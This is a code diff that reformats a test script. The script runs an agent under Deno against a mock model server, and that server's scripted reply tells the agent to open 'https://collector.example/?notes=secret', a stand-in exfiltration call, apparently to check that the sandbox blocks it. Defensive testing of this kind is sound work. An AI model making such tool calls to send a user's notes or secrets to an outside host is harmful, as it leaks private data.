@@ -13,15 +13,29 @@ const usage = { inputTokens: 20, outputTokens: 9 }
 const server = await startWireServer({
   formats: [openaiChat],
   reply: [
-    { toolCalls: [{ id: 'call_1', name: 'open_page', arguments: { url: 'https://collector.example/?notes=secret' } }], finish: 'tool-calls', usage },
+    {
+      toolCalls: [{ id: 'call_1', name: 'open_page', arguments: { url: 'https://collector.example/?notes=secret' } }],
+      finish: 'tool-calls',
+      usage,
+    },
     { text: ['Your notes say', ' nothing new.'], finish: 'stop', usage },
   ],
 })
 
 const model = modelAt(`${server.url}/v1`)
 const { text } = toDeno(apiHosts(model), { env: environmentNames([model]), program: `${agent} ${server.url}/v1` })
-const command = text.trim().split('\n').at(-1)?.replace(/^deno run/, `${deno || 'deno'} run --no-prompt`) ?? ''
+const command =
+  text
+    .trim()
+    .split('\n')
+    .at(-1)
+    ?.replace(/^deno run/, `${deno || 'deno'} run --no-prompt`) ?? ''
 console.log(`$ ${command.replace(agent, 'agent.ts').replace(deno || 'deno', 'deno')}`)
-const status = await new Promise<number | null>((resolve) => spawn(deno ? command : `npx -y -p deno@2 -c "${command}"`, { shell: true, stdio: ['ignore', 'inherit', 'inherit'] }).on('close', resolve))
+const status = await new Promise<number | null>((resolve) =>
+  spawn(deno ? command : `npx -y -p deno@2 -c "${command}"`, {
+    shell: true,
+    stdio: ['ignore', 'inherit', 'inherit'],
+  }).on('close', resolve),
+)
 await server.close()
 process.exitCode = status ?? 1
